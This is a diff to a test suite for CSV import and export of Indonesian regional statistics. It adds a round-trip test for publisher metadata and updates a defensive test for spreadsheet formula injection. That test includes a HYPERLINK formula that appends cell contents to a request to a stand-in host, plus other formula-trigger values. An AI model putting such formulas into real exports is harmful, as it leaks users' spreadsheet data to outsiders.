@@ -53,6 +53,35 @@ describeEachDatabase(
       }
     });
 
+    it('exports each value with its region name, publisher, publisher’s page and release date, and imports them back', async () => {
+      const header = 'kode_wilayah,indikator,periode,nilai,sumber,url_sumber,penerbit,url_penerbit,tanggal_rilis';
+      const row =
+        '75.02,poverty_rate_p0,2011,18.75,Tabel uji,https://mirror.example/tabel,Badan Pusat Statistik,https://www.bps.go.id/id/statistics-table/uji,2024-07-01';
+      const first = await importFile(use(), {
+        bytes: Buffer.from(`${header}\n${row}\n`),
+        fileName: 'penerbit.csv',
+        viewer: systemViewer('tester'),
+      });
+      expect(first.errors).toEqual([]);
+      const res = await request(api.http)
+        .get('/export/observations.csv')
+        .query({ indicator: 'poverty_rate_p0', region: '75.02', from: '2011', to: '2011' });
+      const [head, line] = res.text.split('\r\n');
+      expect(head).toBe(
+        '\uFEFFkode_wilayah,nama_wilayah,indikator,periode,nilai,status,sumber,url_sumber,penerbit,url_penerbit,tanggal_rilis,catatan,data_per',
+      );
+      expect(line).toMatch(
+        /^75\.02,Kabupaten Boalemo,poverty_rate_p0,2011,18\.75,UNVERIFIED,Tabel uji,https:\/\/mirror\.example\/tabel,Badan Pusat Statistik,https:\/\/www\.bps\.go\.id\/id\/statistics-table\/uji,2024-07-01,,\d{4}-/,
+      );
+      const again = await importFile(use(), {
+        bytes: Buffer.from(res.text),
+        fileName: 'lagi.csv',
+        viewer: systemViewer('tester'),
+      });
+      expect(again.errors).toEqual([]);
+      expect(again.counts).toMatchObject({ records: 1, unchanged: 1 });
+    });
+
     it('neutralises text a spreadsheet would run, and such an export imports again unchanged', async () => {
       const title = '=HYPERLINK("http://x.example/?"&A1,"klik")';
       const file = [
@@ -76,9 +105,10 @@ describeEachDatabase(
         const sep = decimal === 'comma' ? ';' : ',';
         const [, row2012, row2013] = res.text.split('\r\n');
         expect(row2012).toContain(
-          `${sep}"'=HYPERLINK(""http://x.example/?""&A1,""klik"")"${sep}https://www.bps.go.id/${sep}"'-tidak ada"${sep}`,
+          // Source, its link, then publisher, publisher's page and release date (none given), then the note.
+          `${sep}"'=HYPERLINK(""http://x.example/?""&A1,""klik"")"${sep}https://www.bps.go.id/${sep}${sep}${sep}${sep}"'-tidak ada"${sep}`,
         );
-        expect(row2013).toContain(`${sep}0${sep}UNVERIFIED${sep}${sep}${sep}"'@rapat"${sep}`);
+        expect(row2013).toContain(`${sep}0${sep}UNVERIFIED${sep}${sep}${sep}${sep}${sep}${sep}"'@rapat"${sep}`);
         const again = await importFile(use(), {
           bytes: Buffer.from(res.text),
           fileName: `formula-${decimal}.csv`,
